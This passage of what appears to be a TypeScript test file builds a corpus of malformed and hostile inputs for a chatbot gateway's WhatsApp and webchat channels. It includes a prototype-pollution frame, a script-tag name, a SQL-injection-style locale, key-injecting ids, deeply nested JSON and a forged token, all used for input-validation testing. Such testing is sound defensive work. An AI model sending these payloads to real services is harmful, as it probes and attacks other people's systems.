    const digits = whatsappNumber();
    ignored('an empty text', whatsappMessage(digits, '   '), `${digits}@c.us`);
  }
  {
    const digits = whatsappNumber();
    ignored(
      'a status broadcast',
      { ...whatsappMessage(digits, 'status'), from: 'status@broadcast', isStatus: true },
      `${digits}@c.us`,
    );
  }
  {
    const digits = whatsappNumber();
    ignored(
      'a group message',
      { ...whatsappMessage(digits, 'group'), from: '120363025555555555@g.us', author: `${digits}@c.us` },
      `${digits}@c.us`,
    );
  }
  {
    const digits = whatsappNumber();
    ignored('an unknown message type', { ...whatsappMessage(digits, ''), type: 'e2e_notification' }, `${digits}@c.us`);
  }
  {
    const digits = whatsappNumber();
    ignored(
      'sent by this account (fromMe)',
      {
        ...whatsappMessage(digits, 'mine'),
        fromMe: true,
        id: { fromMe: true, remote: `${digits}@c.us`, id: 'X', _serialized: `true_${digits}@c.us_X` },
      },
      `${digits}@c.us`,
    );
  }
  {
    const digits = whatsappNumber();
    ignored(
      'a chat id of an unknown kind',
      { ...whatsappMessage(digits, 'odd chat'), from: `${digits}@evil` },
      `${digits}@c.us`,
    );
  }
  for (const [name, fields] of [
    ['a model whose body is a number', { body: 12345 }],
    ['a model whose body is an object', { body: { toString: 'x' } }],
    ['a model with no sender', { from: undefined }],
    ['a model whose sender is a number', { from: 33612 }],
    ['a model with no type', { type: undefined }],
  ] as const) {
    const digits = whatsappNumber();
    ignored(name, { ...whatsappMessage(digits, 'malformed'), ...fields }, `${digits}@c.us`);
  }
  {
    const digits = whatsappNumber();
    cases.push({
      name: 'a location whose coordinates are not numbers',
      surface: 'whatsapp',
      messages: [{ ...whatsappMessage(digits, ''), type: 'location', lat: 'north', lng: null }],
      expect: { answered: true, contains: ['[a location that could not be read]'] },
      recipient: { channel: 'whatsapp', chatId: `${digits}@c.us` },
    });
  }
  {
    const digits = whatsappNumber();
    const message = whatsappMessage(digits, 'replayed whatsapp');
    cases.push({
      name: 'the same message delivered twice: answered once',
      surface: 'whatsapp',
      messages: [message, message],
      expect: { answered: true, contains: ['replayed whatsapp'] },
      recipient: { channel: 'whatsapp', chatId: `${digits}@c.us` },
    });
  }
  return cases;
}

// ---------------------------------------------------------------- web chat

let frameCounter = 0;
const frameId = () => `bad-input-${String(++frameCounter).padStart(6, '0')}`;
const message = (text: unknown, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ type: 'message', id: frameId(), text, ...extra });

function webchatCases(): WebchatCase[] {
  const cases: WebchatCase[] = [];
  const refused = (
    name: string,
    frames: WebchatCase['frames'],
    reason: RegExp,
    error = 'bad-frame',
    hello?: Record<string, unknown>,
  ) => cases.push({ name, surface: 'webchat', frames, expect: { error, reason }, ...(hello ? { hello } : {}) });

  refused('not JSON', ['{"type":"message",'], /not valid JSON/);
  refused('a binary frame', [{ binary: Uint8Array.from([0, 1, 2, 255]) }], /frames are JSON text/);
  refused('JSON null', ['null'], /frame/);
  refused('a JSON array', ['[{"type":"message"}]'], /frame/);
  refused('unknown frame type', [JSON.stringify({ type: 'typing' })], /type/);
  refused(
    'type given as an object (prototype keys)',
    ['{"type":{"__proto__":{"admin":true}},"id":"abcdefgh"}'],
    /type/,
  );
  refused('text not a string', [message({ toString: 'x' })], /text/);
  refused(
    'text over 4000 characters (10,000)',
    [message(HOSTILE_TEXTS.find((item) => item.name === '10,000 characters')?.text)],
    /at most 4000 characters/,
  );
  refused('only whitespace and zero-width spaces', [message(' \t\n ')], /needs text, a postback or a referral/);
  refused(
    'message id that injects keys',
    [JSON.stringify({ type: 'message', id: 'a:b}{c*\r\n', text: 'hi' })],
    /id must be 8-64/,
  );
  refused(
    'message id over 64 characters',
    [JSON.stringify({ type: 'message', id: 'a'.repeat(65), text: 'hi' })],
    /id must be 8-64/,
  );
  refused('postback payload too long', [message(undefined, { postback: { payload: 'p'.repeat(1001) } })], /postback/);
  refused('referral with a script', [message(undefined, { referral: { ref: '<script>' } })], /referral\.ref/);
  refused('hello with a name over 100 characters', [JSON.stringify({ type: 'hello', name: 'n'.repeat(101) })], /name/);
  refused('hello with a site that injects keys', [JSON.stringify({ type: 'hello', site: 'a}:*{b' })], /site/);
  refused('hello with lastSeq negative', [JSON.stringify({ type: 'hello', lastSeq: -1 })], /lastSeq/);
  cases.push({
    name: 'a 64 kB frame (over the 32 kB limit)',
    surface: 'webchat',
    frames: [message('x'.repeat(64 * 1024))],
    expect: { closed: 1009 },
  });
  cases.push({
    name: 'nested 16,000 deep inside the 32 kB limit',
    surface: 'webchat',
    frames: [`{"type":"message","id":"${frameId()}","text":"deep","x":${'['.repeat(16_000)}${']'.repeat(16_000)}}`],
    expect: { answered: true, contains: ['deep'], acks: 1 },
  });

  const answered = (name: string, text: string, contains: string[], hello?: Record<string, unknown>) =>
    cases.push({
      name,
      surface: 'webchat',
      frames: [message(text)],
      expect: { answered: true, contains, acks: 1 },
      ...(hello ? { hello } : {}),
    });
  for (const hostile of HOSTILE_TEXTS.filter((item) => item.name !== '10,000 characters')) {
    answered(`text: ${hostile.name}`, hostile.text, hostile.contains);
  }
  answered('a hello name and locale made of injections', 'odd hello', ['odd hello'], {
    name: '<script>alert(1)</script>',
    locale: "fr'; DROP--",
  });
  answered(
    'a visitor id someone else owns, with a forged token (gets a new identity)',
    'forged identity',
    ['forged identity'],
    { visitorId: 'v_someoneelse000000', token: 'forged' },
  );
  {
    const frame = message('replayed frame');
    cases.push({
      name: 'the same frame id twice: acked twice (the second a duplicate), answered once',
      surface: 'webchat',
      frames: [frame, frame],
      expect: { answered: true, contains: ['replayed frame'], acks: 2, duplicates: 1 },
    });
  }
  return cases;
}

/** The whole corpus, built fresh (ids, numbers and signatures) for one run. */
export function hostileCorpus(ctx: CorpusContext): HostileCase[] {
  return [...twilioCases(), ...telegramCases(), ...botframeworkCases(ctx), ...whatsappCases(), ...webchatCases()];
}
